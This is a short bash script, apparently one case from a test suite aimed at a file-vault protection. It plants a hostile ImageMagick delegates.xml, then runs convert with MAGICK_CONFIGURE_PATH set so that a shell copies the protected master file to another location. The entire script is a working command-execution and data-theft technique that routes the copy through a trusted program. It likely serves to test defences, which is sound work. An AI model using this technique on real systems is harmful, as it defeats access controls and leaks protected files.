#!/usr/bin/env bash
# technique: the named program starts a program of the attacker's choice with the master as its argument
# hooks: file_open
# lock: vault
# sink: usb

. attack.sh
cat >"$ROOM/delegates.xml" <<'XML'
<?xml version="1.0"?>
<delegatemap>
  <delegate decode="innocent" command="/bin/sh -c 'cat %i >$COPY; : %o'"/>
</delegatemap>
XML
MAGICK_CONFIGURE_PATH=$ROOM convert-im6.q16 "innocent:$MASTER" null:
